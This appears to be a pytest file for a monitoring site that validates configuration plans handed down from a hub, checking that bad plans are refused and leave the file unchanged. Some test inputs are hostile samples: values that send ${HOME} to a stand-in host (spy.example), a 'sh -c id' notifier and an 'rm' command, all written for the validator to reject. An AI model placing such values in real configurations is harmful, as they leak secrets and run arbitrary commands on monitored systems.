"""A plan of the province at a site: checked as an edit is, then in force or refused."""

import asyncio
import os
import stat
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from engine.orders.small_province import SmallOffice, SmallSite, at_work
from servers.hub_server import administered, one_hub, serving
from servers.nats_server import NEEDED

from secours import config
from secours.engine.orders import plans
from secours.engine.orders.plans import PlanRefused
from secours.engine.store.reader import HistoryReader
from secours.languages import LANGUAGES
from secours.model.sites.views import OrderAnswer, OrderKind, OrderOutcome
from secours.sites.hub.folder import HubFolder

pytestmark = NEEDED
SPY = "[{type: http, url: 'https://spy.example', headers: {Authorization: '${HOME}'}}]"
BEAT = "notify: {beat_to: 'https://spy.example/${HOME}'}\nplan:"
TARGET = "notify: {{to: {{duty: {{targets: [x]}}}}, targets: {{x: {{{}}}}}}}\nplan:"
PROGRAM = TARGET.format("command: [sh, -c, 'id']")
POST = TARGET.format("url: 'jsons://spy.example/${HOME}'")


@pytest.fixture
async def hub(tmp_path: Path) -> AsyncIterator[HubFolder]:
    made = one_hub(tmp_path / "hub", dison=[])
    async with serving(made), administered(made, "dison"):
        yield made


@pytest.fixture
def site(processes: None, hub: HubFolder, tmp_path: Path) -> SmallSite:
    return SmallSite(tmp_path, hub, "dison")


async def answer(
    site: SmallSite, hub: HubFolder, tmp_path: Path, *several: str
) -> OrderAnswer:
    """Hand plans down to the site, and return its answer to the last."""
    office = SmallOffice(tmp_path, hub)
    async with at_work(site, office):
        for text in several:
            await office.hand(OrderKind.PLAN, text, "dison")
        return await site.answer(len(several))


async def test_good_plan_takes_the_place_of_the_one_before(
    site: SmallSite, hub: HubFolder, tmp_path: Path
) -> None:
    before, fresh = site.file.read_text(), site.plan(how="Call")
    site.file.chmod(0o640)

    taken = await answer(site, hub, tmp_path, fresh)

    assert taken.outcome is OrderOutcome.TAKEN
    assert site.file.read_text() == fresh
    assert stat.S_IMODE(site.file.stat().st_mode) == 0o640
    assert site.file.with_name("probes.yaml.before").read_text() == before
    assert site.desk.plan_refused == ""
    with HistoryReader(site.folder) as history:
        kinds = [(entry.kind, entry.by) for entry in history.journal(limit=10)]
    assert ("plan-handed-down", "Province de Liège (Ann)") in kinds


@pytest.mark.parametrize(
    ("was", "becomes", "why"),
    [
        ("alert,", "allert,", "allert"),
        ("name: dison", "name: spa", "spa"),
        ('hub: "tls://127', 'hub: "tls://128', "sites.hub"),
        ("[echo, fine]", "[rm, fine]", "rm fine"),
        ("[echo, fine]", "[echo, fine], env: {A: b}", "echo fine"),
        ("[echo, fine]", "[echo, fine], privileged: true", "echo fine"),
        ("[{type: plugin, command: [echo, fine]}]", SPY, "channels.sms"),
        ("plan:", BEAT, "notify.beat_to"),
        ("plan:", PROGRAM, "sh -c"),
        ("plan:", POST, "notify.x"),
        ("name: dison,", "name: dison, share: [states, how],", "how"),
    ],
    ids=[
        "broken",
        "of-another",
        "another-hub",
        "program",
        "environment",
        "rights",
        "secret-to-an-address",
        "secret-in-the-beat",
        "program-for-notices",
        "secret-for-notices",
        "shares-how",
    ],
)
async def test_plan_that_is_not_taken_changes_nothing_and_the_refusal_travels_up(
    site: SmallSite, hub: HubFolder, tmp_path: Path, was: str, becomes: str, why: str
) -> None:
    before = site.file.read_text()
    fresh = before.replace(was, becomes)
    assert fresh != before

    refused = await answer(site, hub, tmp_path, fresh)

    assert refused.outcome is OrderOutcome.PLAN_REFUSED
    assert why in refused.why
    assert set(refused.why_in) == set(LANGUAGES)
    assert all(why in said for said in refused.why_in.values())
    assert len({*refused.why_in.values()}) == len(LANGUAGES)
    assert refused.why == refused.why_in[site.engine.config.site.language]
    assert site.desk.plan_refused == refused.why
    assert site.desk.plan_refused_in == refused.why_in
    assert site.file.read_text() == before
    assert os.listdir(site.file.parent).count("probes.yaml.before") == 0


async def test_refusal_is_over_when_a_good_plan_comes(
    site: SmallSite, hub: HubFolder, tmp_path: Path
) -> None:
    fresh = site.plan(how="Call")

    await answer(site, hub, tmp_path, "no plan", fresh)

    assert site.desk.plan_refused == ""
    assert site.file.read_text() == fresh


async def test_what_a_plan_may_run_is_what_is_run_already(
    site: SmallSite, tmp_path: Path
) -> None:
    text = site.plan(how="Call")

    await asyncio.to_thread(plans.check, text, site.file, site.engine.config)


@pytest.mark.parametrize(
    "with_secret", [SPY, BEAT, POST], ids=["probe", "beat", "post"]
)
async def test_a_secret_that_is_used_so_already_may_stay(
    site: SmallSite, tmp_path: Path, with_secret: str
) -> None:
    was = "[{type: plugin, command: [echo, fine]}]" if with_secret is SPY else "plan:"
    text = site.plan().replace(was, with_secret)
    site.file.write_text(text)
    in_force = config.load(site.file)
    fresh = text.replace("label: Grid", "label: Mains")

    await asyncio.to_thread(plans.check, fresh, site.file, in_force)


def test_file_that_cannot_be_written_is_a_refusal_that_says_what_helps(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "gone"

    with pytest.raises(PlanRefused) as refused:
        plans.put("plan", folder / "probes.yaml")

    assert "commands.order.plan.file" in repr(refused.value.message)
    assert not folder.exists()


def test_link_to_a_plan_stays_one(tmp_path: Path) -> None:
    real, link = tmp_path / "real.yaml", tmp_path / "probes.yaml"
    real.write_text("old")
    link.symlink_to(real)

    plans.put("new", link)

    assert link.is_symlink()
    assert real.read_text() == "new"
    assert (tmp_path / "real.yaml.before").read_text() == "old"
